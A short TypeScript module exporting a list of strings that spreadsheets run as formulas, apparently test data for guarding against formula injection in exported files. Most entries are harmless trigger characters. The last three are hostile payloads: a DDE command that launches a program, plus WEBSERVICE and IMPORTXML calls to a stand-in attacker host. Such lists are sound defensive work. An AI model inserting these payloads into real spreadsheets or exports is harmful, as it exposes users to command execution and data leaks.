/** Texts that a spreadsheet runs as formulas when nobody guards them. */
export const formulaTexts: readonly string[] = [
  '=1+1',
  '+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A',
  "=cmd|'/c calc'!A1",
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML("http://evil.example","//a")',
];
